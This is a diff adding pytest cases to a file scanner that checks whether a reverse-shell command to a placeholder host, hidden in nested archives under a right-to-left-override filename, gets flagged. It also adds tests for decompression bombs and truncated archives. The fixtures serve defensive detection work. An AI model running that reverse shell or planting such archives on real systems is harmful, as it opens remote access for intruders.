@@ -1,7 +1,9 @@
 """Files that are not what a reader takes them for, and honest ones that resemble them."""
 
+import gzip
 import io
 import py_compile
+import tarfile
 import zipfile
 from pathlib import Path
 
@@ -9,7 +11,7 @@ import pytest
 
 from skillhub.model.tree import File, Tree
 from skillhub.scan import scan
-from tests.support.effort import is_linear
+from tests.support.effort import at_most, is_linear
 
 ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 60
 BYTECODE = b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40
@@ -117,3 +119,52 @@ def test_honest_files_are_let_through(path, data):
 @pytest.mark.parametrize("unit", [b"\n", b" \n", b"\n" * 39 + b"a", b"PK\x03\x04", b"x" * 6000 + b"\n"])
 def test_attack_no_file_takes_more_than_its_length(unit):
     assert is_linear(lambda size: scan(Tree({"a.sh": File(unit * (size // len(unit)))})), 12_000)
+
+
+def packed(kind, files):
+    held = io.BytesIO()
+    if kind == "zip":
+        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
+            for name, data in files.items():
+                archive.writestr(name, data)
+        return held.getvalue()
+    with tarfile.open(fileobj=held, mode="w:gz" if kind == "tar.gz" else "w") as archive:
+        for name, data in files.items():
+            entry = tarfile.TarInfo(name)
+            entry.size = len(data)
+            archive.addfile(entry, io.BytesIO(data))
+    return held.getvalue()
+
+
+PIPE = b"bash -i >& /dev/tcp/c.invalid/1 0>&1\n"
+
+
+@pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
+def test_attack_a_command_in_an_archive(kind):
+    files = {"a/\u202erun.sh": PIPE, "b.txt": b"words"}
+    seen = [each for each in scan(Tree({"assets/x.bin": File(packed(kind, files))})) if each.rule == "SH402"]
+    found = next(each for each in seen if each.line == 0)
+    assert found.path == "assets/x.bin"
+    assert found.message.endswith("run.sh)")
+    assert "\u202e" not in found.message
+    inner = packed("zip", {"c.zip": packed(kind, files)})
+    assert "SH402" in rules("assets/x.bin", inner)
+    assert rules("assets/x.bin", packed(kind, {"a.sh": b"echo hello\n"})) == {"SH606"}
+
+
+def test_attack_a_packed_script_without_an_archive():
+    assert "SH402" in rules("assets/x.gz", gzip.compress(PIPE))
+
+
+def test_nothing_is_unpacked_without_end():
+    bomb = packed("zip", {f"{n}.sh": b"\n" * (1 << 22) for n in range(40)})
+    files = {f"{n}.zip": bomb for n in range(30)} | {f"{n}.gz": gzip.compress(b"\0" * (1 << 23)) for n in range(30)}
+    with at_most(20):
+        found = scan(Tree({path: File(data) for path, data in files.items()}))
+    assert {each.rule for each in found} == {"SH606"}
+
+
+@pytest.mark.parametrize("cut", [10, 30, 60, -30, -5])
+@pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
+def test_a_broken_archive_is_an_archive(kind, cut):
+    assert rules("assets/x.bin", packed(kind, {"a.sh": b"echo hello\n"})[:cut]) <= {"SH606", "SH607"}
